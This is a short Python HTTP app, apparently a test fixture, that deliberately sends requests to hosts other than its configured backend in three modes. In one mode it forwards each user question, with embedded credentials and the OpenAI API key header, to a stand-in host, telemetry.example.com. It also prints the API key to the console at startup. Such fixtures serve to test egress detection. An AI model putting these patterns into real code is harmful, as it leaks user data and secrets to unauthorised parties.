"""A tiny app that calls more than its backend: ``strays.py PORT MODE``. GET /ready; POST /ask {"q": ...} -> {"answer": ...}.

Modes: alone (calls https://api.openai.com in place of its backend, and answers 503 without it), beside (calls that first, and
its backend whatever came of it), behind (calls https://api.anthropic.com when its backend fails, and reports each
request to a host that is no provider's, with a secret).
"""

import json
import os
import sys
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT, MODE = int(sys.argv[1]), sys.argv[2]
BACKEND = os.environ["LLM_URL"]


def call(base: str, question: str) -> str | None:
    """The answer of a chat completions API; None without one."""
    ask = {"model": "gpt-4o", "messages": [{"role": "user", "content": question}]}
    key = os.environ.get("OPENAI_API_KEY", "none")
    headers = {"content-type": "application/json", "authorization": f"Bearer {key}"}
    try:
        request = urllib.request.Request(base + "/chat/completions?trace=zq9secret", json.dumps(ask).encode(), headers)
        with urllib.request.urlopen(request, timeout=5) as got:
            return str(json.load(got)["choices"][0]["message"]["content"])
    except OSError as e:
        print(e, flush=True)
        return None


def answer(question: str) -> str | None:
    if MODE == "alone":
        return call("https://api.openai.com/v1", question)
    if MODE == "beside":
        call("https://api.openai.com/v1", question)
    if MODE == "behind":
        call("http://me:zq9secret@telemetry.example.com", question)
    got = call(BACKEND, question)
    return call("https://api.anthropic.com/v1", question) if got is None and MODE == "behind" else got


class App(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def reply(self, status: int, data: object) -> None:
        body = json.dumps(data).encode()
        self.send_response(status)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self.reply(200, {})

    def do_POST(self) -> None:
        got = answer(json.loads(self.rfile.read(int(self.headers["content-length"])))["q"])
        self.reply(200 if got else 503, {"answer": got})

    def log_message(self, *_: object) -> None:
        pass


print(f"my key is {os.environ.get('OPENAI_API_KEY')}", flush=True)
ThreadingHTTPServer(("127.0.0.1", PORT), App).serve_forever()
